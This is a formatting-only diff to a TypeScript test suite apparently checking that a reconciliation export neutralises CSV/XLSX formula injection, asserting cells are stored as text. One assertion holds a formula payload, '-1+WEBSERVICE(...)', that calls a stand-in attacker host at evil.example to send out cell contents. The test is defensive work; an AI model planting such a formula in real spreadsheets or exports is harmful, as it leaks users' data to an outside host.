@@ -26,8 +26,14 @@ describe('d2: the reconciliation export neutralises formulas (OWASP CSV injectio
   let server: TestServer, ann: TestUser;
   let side: unknown;
   beforeAll(async () => {
-    ({ server, users: [ann] } = await startWithTwoUsers({ plugins: [reconciliation] }));
-    const compared = await server.call('POST', COMPARE, { token: ann.access, body: { combination_id: 10, file1_name: 'invoices.csv', file1_binary: b64(INV), file2_name: 'orders.csv', file2_binary: b64(PO) } });
+    ({
+      server,
+      users: [ann],
+    } = await startWithTwoUsers({ plugins: [reconciliation] }));
+    const compared = await server.call('POST', COMPARE, {
+      token: ann.access,
+      body: { combination_id: 10, file1_name: 'invoices.csv', file1_binary: b64(INV), file2_name: 'orders.csv', file2_binary: b64(PO) },
+    });
     expect(compared.status).toBe(200);
     side = compared.body.default;
     // the reader trims cells, but the export route takes the result the browser sends: a TAB and a CR put there
@@ -55,7 +61,11 @@ describe('d2: the reconciliation export neutralises formulas (OWASP CSV injectio
   it('writes the XLSX cells as text (shared strings), never as formulas', async () => {
     const res = await server.call('POST', EXPORT, { token: ann.access, body: { format: 'xlsx', side: 'default', result: side } });
     const zip = await JSZip.loadAsync(Buffer.from(res.body.data, 'base64'));
-    const sheets = await Promise.all(Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).map((n) => zip.file(n)!.async('string')));
+    const sheets = await Promise.all(
+      Object.keys(zip.files)
+        .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
+        .map((n) => zip.file(n)!.async('string')),
+    );
     for (const xml of sheets) expect(xml).not.toMatch(/<f[ >]/);
     const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
     expect(strings).toContain('<t>-1+WEBSERVICE(&quot;http://evil.example/?&quot;&amp;A1)</t>');
